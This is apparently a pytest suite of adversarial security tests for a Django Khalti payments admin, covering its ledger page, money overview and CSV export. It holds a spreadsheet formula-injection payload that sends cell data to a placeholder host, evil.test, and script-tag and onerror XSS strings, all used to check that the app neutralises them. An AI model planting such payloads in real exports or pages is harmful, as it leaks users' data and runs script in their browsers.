"""Second attack on the admin's side of issue 28, as a person and as a hostile staff
member: the ledger page (Khalti's words and the order's on it, thousands of
differences), the overview's money per period and the accountants' CSV (a period no
calendar has, the same days as the overview, formulas in any column, Khalti's absurd
fees).

Tests that fail expose a defect (see the report of the branch ``ledger-attack2``); the
passing ones guard what held."""

import csv
import io
from datetime import datetime, timedelta
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from django_khalti.models import LedgerEntry, LedgerWalk, Payment

from .conftest import staff_client
from .test_export import pay

pytestmark = pytest.mark.django_db

LEDGER = reverse("admin:django_khalti_payment_ledger")
EXPORT = reverse("admin:django_khalti_payment_export")
OVERVIEW = reverse("admin:django_khalti_payment_overview")
S = Payment.Status
Kind = LedgerEntry.Kind


def csv_rows(client, start, end):
    """The export's rows (without the header) for ``start``..``end``."""
    response = client.get(EXPORT, {"start": start, "end": end})
    assert response.status_code == 200
    content = b"".join(response.streaming_content).decode("utf-8")
    rows = list(csv.reader(io.StringIO(content.lstrip("\ufeff"))))
    assert rows[0][0] == "date"
    return rows[1:]


def paisa(cell):
    return int(Decimal(cell or "0") * 100)


# === defects ===========================================================================


@pytest.mark.parametrize(
    ("start", "end"),
    [("0001-01-01", "2026-12-31"), ("2026-01-01", "9999-12-31"), ("0001-01-01", "9999-12-31")],
)
def test_a_period_no_calendar_can_hold_is_refused_on_the_form_not_a_broken_file(
    viewer_client, start, end
):
    """A staff member asks for "everything": from year 1, or to 31 December 9999 (the
    day after it, where the export ends, does not exist). The page must answer with the
    form and its error; today the file starts (200, its header sent) and breaks
    off with an OverflowError: an accountant gets a header, or a half file, and no word."""
    pay("ORD-1", S.VERIFIED, 1000, timezone.now() - timedelta(days=1))

    response = viewer_client.get(EXPORT, {"start": start, "end": end})
    if response.status_code == 200 and response.streaming:
        b"".join(response.streaming_content)  # what the browser downloads
    assert response.status_code == 200
    assert not response.streaming, "a file was sent for a period the export cannot read"
    assert response.context["form"].errors


def test_khalti_s_absurd_fees_are_not_kept_and_the_overview_shows(superuser_client):
    """Khalti's answer says a fee of 2**62 paisa on a Rs 10 payment (verify's record,
    lookup, or the transaction list): a fee above what was paid is none of this
    payment's, and is not kept, so the overview's sum of fees stays in range and the
    page shows. (The parsers of the three answers are what a fee comes in by.)"""
    from django_khalti.client.parsing import (
        parse_ledger_page,
        parse_lookup,
        parse_transaction,
    )

    record = {"idx": "IDX-1", "state": "Completed", "amount": 1000, "fee_amount": 2**62}
    assert parse_transaction(record, plain_state=True).fee_amount is None
    assert (
        parse_lookup({"status": "Completed", "total_amount": 1000, "fee": 2**62}, "P").fee is None
    )
    (unread,) = parse_ledger_page({"records": [record]}, 1).unreadable
    assert unread.idx == "IDX-1"
    now = timezone.now()
    pay("ORD-1", S.VERIFIED, 1000, now - timedelta(minutes=5), fee_amount=30)

    assert superuser_client.get(OVERVIEW).status_code == 200


# === what held (regression guards) =====================================================


@pytest.mark.parametrize("zone", ["Asia/Kathmandu", "Pacific/Chatham", "America/St_Johns"])
def test_the_csv_and_the_overview_count_the_same_money_for_the_same_days(
    settings, superuser_client, zone
):
    """For each of the overview's periods, the CSV of the same days sums to the
    overview's money in, fees, refunded and net: payments with and without Khalti's
    fee, refunded, partly refunded, held for review with Khalti's id (verified or not),
    around each midnight, on time zones far from UTC."""
    settings.TIME_ZONE = zone
    tz = ZoneInfo(zone)
    today = timezone.localdate(timezone.now(), tz)
    n = 0
    for back in (0, 1, 6, 7, 29, 30):
        day = today - timedelta(days=back)
        for hour, minute in ((0, 0), (0, 1), (12, 0), (23, 59)):
            at = datetime(day.year, day.month, day.day, hour, minute, tzinfo=tz)
            if at > timezone.now():
                continue
            n += 1
            kind = n % 6
            if kind == 0:
                pay(f"V{n}", S.VERIFIED, 1000 + n, at, fee_amount=25)
            elif kind == 1:
                pay(f"U{n}", S.VERIFIED, 2000 + n, at)  # fee unknown
            elif kind == 2:
                pay(f"P{n}", S.PARTIALLY_REFUNDED, 3000, at, fee_amount=75, refunded_amount=700)
            elif kind == 3:
                pay(f"R{n}", S.NEEDS_REVIEW, 4000, at, verified=False, idx=f"idx-R{n}",
                    received_amount=4500)  # fmt: skip
            elif kind == 4:
                pay(f"B{n}", S.REFUNDED, 5000, at, verified=False, idx=f"idx-B{n}",
                    refunded_amount=5000, fee_amount=125)  # fmt: skip
            else:
                pay(f"F{n}", S.FAILED, 6000, at, verified=False)  # no money moved

    overview = superuser_client.get(OVERVIEW).context["overview"]
    for period, back in zip(overview.periods, (0, 6, 29), strict=True):
        rows = csv_rows(superuser_client, today - timedelta(days=back), today)
        money = period.money
        assert len(rows) == money.count
        assert sum(paisa(r[2]) for r in rows) == money.money_in
        assert sum(paisa(r[3]) for r in rows) == money.fees
        assert sum(paisa(r[4]) for r in rows) == money.refunded
        assert sum(paisa(r[5]) for r in rows) == money.net
        assert sum(1 for r in rows if r[3] == "") == money.unknown_fees


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_khalti_s_idx_a_spreadsheet_would_run_gets_an_apostrophe(viewer_client, start):
    """Khalti's transaction id is Khalti's word, not the shop's: guarded as the order is."""
    formula = f'{start}HYPERLINK("http://evil.test/?"&A1,"open")'
    pay("ORD-1", S.VERIFIED, 1000, timezone.now() - timedelta(minutes=5), idx=formula)
    (row,) = csv_rows(viewer_client, timezone.localdate(), timezone.localdate())
    assert row[7] == "'" + formula
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in row)


def test_khalti_s_words_on_the_ledger_page_are_text_not_markup(viewer_client):
    """Khalti's idx, state and the detail naming it, and the order's reference, each
    carry markup: the page shows them as text."""
    attack = '<script>alert("x")</script><img src=x onerror=alert(1)>'
    payment = pay(f"ORD-{attack}", S.VERIFIED, 1000, timezone.now(), idx=f"idx-{attack}")
    walk = LedgerWalk.objects.create(
        since=timezone.now() - timedelta(days=1),
        status=LedgerWalk.Status.FINISHED,
        last_error=attack,
    )
    LedgerEntry.objects.create(
        walk=walk, kind=Kind.FOREIGN, idx=attack, state=attack, detail=f"Khalti says {attack}"
    )
    LedgerEntry.objects.create(
        walk=walk, kind=Kind.STATE_DIFFERS, idx=f"idx-{attack}", payment=payment, state=attack
    )
    response = viewer_client.get(LEDGER, {"kind": attack})
    body = response.content.decode()
    assert response.status_code == 200
    assert "<script>alert" not in body
    assert "<img src=x" not in body
    assert body.count("&lt;script&gt;alert") >= 4


def test_a_walk_with_thousands_of_differences_lists_the_first_and_says_how_many(
    viewer_client,
):
    """3,000 differences (a walk over another channel's busy key): the page lists 200,
    says how many there are, and costs five queries."""
    walk = LedgerWalk.objects.create(
        since=timezone.now() - timedelta(days=1),
        status=LedgerWalk.Status.FINISHED,
        differences=3000,
        records_read=3000,
    )
    LedgerEntry.objects.bulk_create(
        LedgerEntry(walk=walk, kind=Kind.FOREIGN, idx=f"idx-{n}", amount=1000 + n)
        for n in range(3000)
    )
    viewer_client.get(LEDGER)  # warm caches
    with CaptureQueriesContext(connection) as captured:
        response = viewer_client.get(LEDGER)
    assert response.status_code == 200
    # The session, the user and its permissions, then the walk, its counts, its differences.
    assert len(captured.captured_queries) == 7
    assert len(response.context["ledger"].differences) == 200
    assert "The first 200 of 3000 are listed" in response.content.decode()


@pytest.mark.parametrize("page", [LEDGER, EXPORT, OVERVIEW])
def test_staff_who_may_only_see_refunds_or_deliveries_see_none_of_the_money(
    django_user_model, page
):
    """A staff member with every permission but viewing payments (refunds, deliveries,
    changing payments without viewing them is impossible: view_payment withheld)."""
    from django.contrib.auth.models import Permission

    codenames = list(
        Permission.objects.filter(content_type__app_label="django_khalti")
        .exclude(codename__in=["view_payment", "change_payment"])
        .values_list("codename", flat=True)
    )
    client = staff_client(django_user_model, "hostile", *codenames)
    pay("ORD-1", S.VERIFIED, 1000, timezone.now() - timedelta(minutes=5))
    today = timezone.localdate().isoformat()
    response = client.get(page, {"start": today, "end": today} if page == EXPORT else {})
    assert response.status_code == 403
    assert b"ORD-1" not in b"".join(getattr(response, "streaming_content", [response.content]))
